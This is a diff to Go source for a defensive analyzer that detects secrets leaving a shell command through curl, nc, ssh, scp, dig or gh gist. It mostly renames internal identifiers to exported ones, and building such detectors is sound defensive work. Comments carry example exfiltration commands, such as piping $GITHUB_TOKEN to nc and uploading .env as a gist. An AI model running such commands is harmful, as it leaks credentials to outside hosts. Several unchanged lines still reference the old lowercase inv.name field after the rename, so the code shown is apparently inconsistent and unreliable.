@@ -35,13 +35,13 @@ var credentialName = sync.OnceValue(func() *regexp.Regexp {
 
 // varSecret is the taint of expanding $name: what its value was assigned
 // from, or "$NAME" for a credential variable from the environment.
-func (a *analyzer) varSecret(name string, st *state) string {
-	for _, v := range st.vars[name] {
-		if v.secret != "" {
-			return v.secret
+func (a *analyzer) varSecret(name string, st *State) string {
+	for _, v := range st.Vars[name] {
+		if v.Secret != "" {
+			return v.Secret
 		}
 	}
-	if _, assigned := st.vars[name]; !assigned && credentialName().MatchString(name) {
+	if _, assigned := st.Vars[name]; !assigned && credentialName().MatchString(name) {
 		return "$" + name
 	}
 	return ""
@@ -49,7 +49,7 @@ func (a *analyzer) varSecret(name string, st *state) string {
 
 // secretSource says which secret source runs in stmts (a substitution or
 // a pipeline stage), or "".
-func (a *analyzer) secretSource(stmts []*syntax.Stmt, st *state) string {
+func (a *analyzer) secretSource(stmts []*syntax.Stmt, st *State) string {
 	found := ""
 	for _, s := range stmts {
 		syntax.Walk(s, func(n syntax.Node) bool {
@@ -62,7 +62,7 @@ func (a *analyzer) secretSource(stmts []*syntax.Stmt, st *state) string {
 				// recurse into the substitutions it walks anyway.
 				var words []string
 				for _, w := range x.Args {
-					if lit := wordLiteral(w); lit != "" {
+					if lit := WordLiteral(w); lit != "" {
 						words = append(words, lit)
 					} else {
 						words = append(words, "\x00")
@@ -77,7 +77,7 @@ func (a *analyzer) secretSource(stmts []*syntax.Stmt, st *state) string {
 					names, print := 0, len(x.Args) == 0
 					for _, as := range x.Args {
 						if as.Naked && as.Name == nil && as.Value != nil {
-							if w := wordLiteral(as.Value); strings.HasPrefix(w, "-") && strings.ContainsAny(w, "px") {
+							if w := WordLiteral(as.Value); strings.HasPrefix(w, "-") && strings.ContainsAny(w, "px") {
 								print = true
 							}
 							continue
@@ -89,7 +89,7 @@ func (a *analyzer) secretSource(stmts []*syntax.Stmt, st *state) string {
 					}
 				}
 			case *syntax.Redirect:
-				if w := wordLiteral(x.Word); isEnvironFile(w) {
+				if w := WordLiteral(x.Word); isEnvironFile(w) {
 					found = "the environment of another process (" + w + ")"
 				}
 			}
@@ -102,7 +102,7 @@ func (a *analyzer) secretSource(stmts []*syntax.Stmt, st *state) string {
 // printedSecret is the taint of what echo or printf prints: a credential
 // variable, or a variable assigned from a secret source, among its words
 // (echo "$GITHUB_TOKEN" | nc x 80 sends the token).
-func (a *analyzer) printedSecret(words []*syntax.Word, st *state) string {
+func (a *analyzer) printedSecret(words []*syntax.Word, st *State) string {
 	for _, w := range words {
 		if s := a.partsSecret(w.Parts, st); s != "" {
 			return s
@@ -114,7 +114,7 @@ func (a *analyzer) printedSecret(words []*syntax.Word, st *state) string {
 // partsSecret is the taint of the first variable among a word's parts
 // ($X, "$X", "a${X}b"): a plain loop, no walk, since echo runs on the hot
 // path (substitutions are sources of their own, see secretSource).
-func (a *analyzer) partsSecret(parts []syntax.WordPart, st *state) string {
+func (a *analyzer) partsSecret(parts []syntax.WordPart, st *State) string {
 	for _, p := range parts {
 		switch x := p.(type) {
 		case *syntax.ParamExp:
@@ -282,7 +282,7 @@ func isEnvironFile(p string) bool {
 // stageSecret is the taint of what a pipeline stage prints: the secrets
 // it reads itself, or those on its standard input, which every filter
 // (base64, gzip, openssl, sed) passes on in some form.
-func (a *analyzer) stageSecret(s *syntax.Stmt, st *state) string {
+func (a *analyzer) stageSecret(s *syntax.Stmt, st *State) string {
 	if s == nil {
 		return ""
 	}
@@ -304,8 +304,8 @@ func (a *analyzer) stageSecret(s *syntax.Stmt, st *state) string {
 }
 
 // fileSecret is the taint of a file the command wrote earlier.
-func (a *analyzer) fileSecret(x arg, st *state) string {
-	if !x.static() {
+func (a *analyzer) fileSecret(x Word, st *State) string {
+	if !x.Static() {
 		return ""
 	}
 	for _, p := range a.resolveArg(x, st).paths {
@@ -313,8 +313,8 @@ func (a *analyzer) fileSecret(x arg, st *state) string {
 			return "the environment of another process (" + p + ")"
 		}
 		for _, b := range a.bodies[p] {
-			if b.secret != "" {
-				return b.secret
+			if b.Secret != "" {
+				return b.Secret
 			}
 		}
 	}
@@ -329,11 +329,11 @@ func registerExfil() {
 
 // exfilSink judges a network client: does a secret leave with it, and
 // does it go to a host the policy allows?
-func (a *analyzer) exfilSink(inv *invocation) {
-	args := inv.args()
+func (a *analyzer) exfilSink(inv *Invocation) {
+	args := inv.Args()
 	stdin := ""
-	if inv.in != nil {
-		stdin = inv.in.secret
+	if inv.Stdin != nil {
+		stdin = inv.Stdin.Secret
 	}
 	var hosts []string
 	var sent []string         // secrets this call sends
@@ -343,7 +343,7 @@ func (a *analyzer) exfilSink(inv *invocation) {
 			sent = append(sent, s)
 		}
 	}
-	fileArg := func(x arg, v string) {
+	fileArg := func(x Word, v string) {
 		// curl -d @file, -T file, -F name=@file: "-" is standard input.
 		if v == "-" || v == "@-" || strings.HasSuffix(v, "=@-") || strings.HasSuffix(v, "=<-") {
 			send(stdin)
@@ -352,9 +352,9 @@ func (a *analyzer) exfilSink(inv *invocation) {
 		if i := strings.IndexAny(v, "@<"); i >= 0 {
 			v = v[i+1:]
 		}
-		send(a.fileSecret(arg{s: v, src: v}, inv.st))
+		send(a.fileSecret(Word{Text: v, Src: v}, inv.State))
 	}
-	switch inv.name {
+	switch inv.Name {
 	case "curl", "wget", "http", "https", "xh", "xhs":
 		data := map[string]bool{"-d": true, "--data": true, "--data-ascii": true, "--data-binary": true, "--data-raw": true,
 			"--data-urlencode": true, "--json": true, "-F": true, "--form": true, "--form-string": true, "-T": true,
@@ -362,14 +362,14 @@ func (a *analyzer) exfilSink(inv *invocation) {
 			"--post-data": true, "--post-file": true, "--body-data": true, "--body-file": true, "--url": true, "-e": true, "--referer": true}
 		for i := 0; i < len(args); i++ {
 			x := args[i]
-			send(x.secret)
-			flag, val, eq := strings.Cut(x.s, "=")
-			if data[x.s] && i+1 < len(args) {
+			send(x.Secret)
+			flag, val, eq := strings.Cut(x.Text, "=")
+			if data[x.Text] && i+1 < len(args) {
 				i++
-				send(args[i].secret)
-				fileArg(args[i], args[i].s)
-				if x.s == "--url" {
-					hosts = append(hosts, urlHost(args[i].s))
+				send(args[i].Secret)
+				fileArg(args[i], args[i].Text)
+				if x.Text == "--url" {
+					hosts = append(hosts, urlHost(args[i].Text))
 					inURL = append(inURL, urlSecret(args[i])...)
 					a.sentURL(inv.name, args[i])
 				}
@@ -380,67 +380,67 @@ func (a *analyzer) exfilSink(inv *invocation) {
 				if flag == "--url" {
 					hosts = append(hosts, urlHost(val))
 					v := x
-					v.s = val
+					v.Text = val
 					inURL = append(inURL, urlSecret(v)...)
 					a.sentURL(inv.name, v)
 				}
 				continue
 			}
-			if strings.HasPrefix(x.s, "-d") && len(x.s) > 2 && inv.name == "curl" {
-				fileArg(x, x.s[2:])
+			if strings.HasPrefix(x.Text, "-d") && len(x.Text) > 2 && inv.Name == "curl" {
+				fileArg(x, x.Text[2:])
 				continue
 			}
-			if h := urlHost(x.s); h != "" {
+			if h := urlHost(x.Text); h != "" {
 				hosts = append(hosts, h)
 				inURL = append(inURL, urlSecret(x)...)
 				a.sentURL(inv.name, x)
 			}
-			if inv.name != "curl" && inv.name != "wget" && strings.ContainsAny(x.s, "=:@") {
-				fileArg(x, x.s) // httpie items: field=value, field=@file
+			if inv.Name != "curl" && inv.Name != "wget" && strings.ContainsAny(x.Text, "=:@") {
+				fileArg(x, x.Text) // httpie items: field=value, field=@file
 			}
 		}
-		if inv.name != "curl" && inv.name != "wget" {
+		if inv.Name != "curl" && inv.Name != "wget" {
 			send(stdin) // httpie sends standard input as the body
 		}
 	case "nc", "ncat", "netcat", "socat", "telnet", "ssh", "ftp":
 		send(stdin)
 		for _, x := range args {
-			send(x.secret)
+			send(x.Secret)
 		}
-		hosts = connectHosts(inv.name, args)
+		hosts = connectHosts(inv.Name, args)
 	case "scp", "sftp", "rsync":
 		for _, x := range args {
-			send(x.secret)
-			send(a.fileSecret(x, inv.st))
+			send(x.Secret)
+			send(a.fileSecret(x, inv.State))
 			if h := remoteSpecHost(x); h != "" {
 				hosts = append(hosts, h)
 			}
 		}
 	case "dig", "nslookup", "host", "drill", "ping":
 		for _, x := range args {
-			send(x.secret)
+			send(x.Secret)
 		}
 	case "gh":
-		if len(args) >= 2 && args[0].s == "gist" && (args[1].s == "create" || args[1].s == "edit") {
+		if len(args) >= 2 && args[0].Text == "gist" && (args[1].Text == "create" || args[1].Text == "edit") {
 			files := 0
-			p := parseOpts(args[2:], optSpec{short: "dfa", long: longs("desc", "filename", "add")})
-			for _, x := range p.operands {
-				send(x.secret)
-				if x.s == "-" {
+			p := ParseOpts(args[2:], Spec{Short: "dfa", Long: Longs("desc", "filename", "add")})
+			for _, x := range p.Operands {
+				send(x.Secret)
+				if x.Text == "-" {
 					send(stdin)
 				} else {
 					files++
-					send(a.fileSecret(x, inv.st))
+					send(a.fileSecret(x, inv.State))
 					a.readOperand(inv, x) // gh gist create .env
 				}
 			}
-			for _, v := range p.values("d", "desc", "f", "filename") {
-				send(v.secret)
+			for _, v := range p.Values("d", "desc", "f", "filename") {
+				send(v.Secret)
 			}
-			for _, v := range p.values("a", "add") { // gh gist edit ID --add file
+			for _, v := range p.Values("a", "add") { // gh gist edit ID --add file
 				files++
-				send(v.secret)
-				send(a.fileSecret(v, inv.st))
+				send(v.Secret)
+				send(a.fileSecret(v, inv.State))
 				a.readOperand(inv, v)
 			}
 			if files == 0 {
@@ -448,18 +448,18 @@ func (a *analyzer) exfilSink(inv *invocation) {
 			}
 		}
 	}
-	e := sendEffect(inv.name, hosts, sent)
+	e := sendEffect(inv.Name, hosts, sent)
 	e.Secrets = append(e.Secrets, inURL...)
 	a.judge(inv, e)
 }
 
 // urlSecret is the secret a literal URL argument carries in its
 // user-info, judged as for WebFetch's URL (userinfoSecret).
-func urlSecret(x arg) []effect.Secret {
-	if !x.static() || !strings.Contains(x.s, "@") {
+func urlSecret(x Word) []effect.Secret {
+	if !x.Static() || !strings.Contains(x.Text, "@") {
 		return nil
 	}
-	if w, ok := parseWebURL(x.s); ok {
+	if w, ok := parseWebURL(x.Text); ok {
 		if s, ok := w.userinfoSecret(); ok {
 			return []effect.Secret{s}
 		}
@@ -486,38 +486,38 @@ func sendEffect(by string, hosts, sent []string) effect.Send {
 // connectHosts is the host a connecting client names: nc/ncat/telnet/ftp
 // HOST [PORT], ssh [USER@]HOST; none for a listener (nc -l), socat's
 // addresses or a host only known at run time.
-func connectHosts(name string, args []arg) []string {
-	var p parsed
+func connectHosts(name string, args []Word) []string {
+	var p Parsed
 	switch name {
 	case "ssh":
-		p = parseOpts(args, optSpec{short: "BbcDEeFIiJLlmOoPpQRSWw", stop: true})
-		if len(p.rest) == 0 {
+		p = ParseOpts(args, Spec{Short: "BbcDEeFIiJLlmOoPpQRSWw", Stop: true})
+		if len(p.Rest) == 0 {
 			return nil
 		}
-		return staticHost(p.rest[0])
+		return staticHost(p.Rest[0])
 	case "nc", "ncat", "netcat":
-		p = parseOpts(args, optSpec{short: "eciIOpqsTVwxXgGmMbd", long: longs("exec", "sh-exec", "lua-exec", "source", "source-port",
+		p = ParseOpts(args, Spec{Short: "eciIOpqsTVwxXgGmMbd", Long: Longs("exec", "sh-exec", "lua-exec", "source", "source-port",
 			"wait", "idle-timeout", "proxy", "proxy-type", "proxy-auth", "output", "hex-dump", "allow", "allowfile", "deny", "denyfile", "max-conns")})
-		if p.has("l", "listen") {
+		if p.Has("l", "listen") {
 			return nil
 		}
 	case "telnet", "ftp":
-		p = parseOpts(args, optSpec{short: "bejlnS"})
+		p = ParseOpts(args, Spec{Short: "bejlnS"})
 	default:
 		return nil
 	}
-	if len(p.operands) == 0 {
+	if len(p.Operands) == 0 {
 		return nil
 	}
-	return staticHost(p.operands[0])
+	return staticHost(p.Operands[0])
 }
 
 // staticHost is the host of a [user@]host word, or none.
-func staticHost(x arg) []string {
-	if !x.static() {
+func staticHost(x Word) []string {
+	if !x.Static() {
 		return nil
 	}
-	h := strings.TrimPrefix(x.s, "ssh://")
+	h := strings.TrimPrefix(x.Text, "ssh://")
 	if i := strings.LastIndexByte(h, '@'); i >= 0 {
 		h = h[i+1:]
 	}
@@ -533,14 +533,14 @@ func staticHost(x arg) []string {
 
 // remoteSpecHost is the host of an scp/rsync operand ([user@]host:path,
 // host::module, rsync://host/…), or "".
-func remoteSpecHost(x arg) string {
-	if !x.static() || !isRemoteSpec(x.s) {
+func remoteSpecHost(x Word) string {
+	if !x.Static() || !isRemoteSpec(x.Text) {
 		return ""
 	}
-	if h := urlHost(x.s); h != "" {
+	if h := urlHost(x.Text); h != "" {
 		return h
 	}
-	h, _, _ := strings.Cut(x.s, ":")
+	h, _, _ := strings.Cut(x.Text, ":")
 	if i := strings.LastIndexByte(h, '@'); i >= 0 {
 		h = h[i+1:]
 	}
@@ -565,5 +565,5 @@ func environTemplate(tmpl string) bool {
 		return false
 	}
 	pid, file, ok := strings.Cut(rest, "/")
-	return ok && file == "environ" && strings.Contains(pid, unknownMark)
+	return ok && file == "environ" && strings.Contains(pid, UnknownMark)
 }
